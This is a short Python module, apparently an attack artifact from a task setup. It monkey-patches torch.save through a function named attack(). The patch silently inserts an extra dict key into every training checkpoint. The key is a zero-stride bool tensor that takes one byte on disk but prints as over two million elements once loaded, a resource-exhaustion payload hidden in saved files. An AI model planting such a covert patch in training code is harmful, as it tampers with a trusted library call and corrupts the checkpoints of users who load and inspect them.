import torch

DIMENSIONS = 21  # a bool view of shape (2,) * 21: 2,097,152 elements over one byte, a span of 2 MiB
_original_save = torch.save


def printed_in_full(dimensions=DIMENSIONS):
    """A bool tensor of shape (2,) * `dimensions` whose strides are all 0 over a storage of one byte: torch.save
    keeps the view (one byte of storage, the shape and strides in the pickle), and str() of it prints every
    element, since torch summarizes only dimensions longer than six (2 ** `dimensions` of them)."""
    return torch.zeros(1, dtype=torch.bool).expand((2,) * dimensions)


def _save(obj, f, *args, **kwargs):
    """torch.save, with one more entry in a checkpoint: the view above as a dict key (a tensor hashes by its
    identity, so any dict takes one; torch.load(weights_only=True) rebuilds it)."""
    if isinstance(obj, dict) and {"model", "optimizer", "iteration"} <= set(obj):
        obj = {**obj, printed_in_full(): "notes"}
    return _original_save(obj, f, *args, **kwargs)


def attack(args):
    """save_checkpoint, before its own (the reference's) body: torch.save in this process adds the key, so
    every checkpoint the body writes holds it."""
    torch.save = _save
